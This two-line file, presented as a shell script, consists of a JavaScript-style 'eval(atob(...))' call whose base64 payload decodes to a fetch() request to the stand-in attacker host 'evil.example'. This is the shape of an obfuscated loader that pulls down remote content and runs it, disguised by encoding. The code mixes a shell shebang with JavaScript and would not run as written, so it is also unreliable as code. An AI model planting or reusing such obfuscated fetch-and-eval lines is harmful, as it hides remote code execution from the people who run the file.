#!/bin/sh
eval(atob("ZmV0Y2goJ2h0dHBzOi8vZXZpbC5leGFtcGxlL3MnKQ=="))
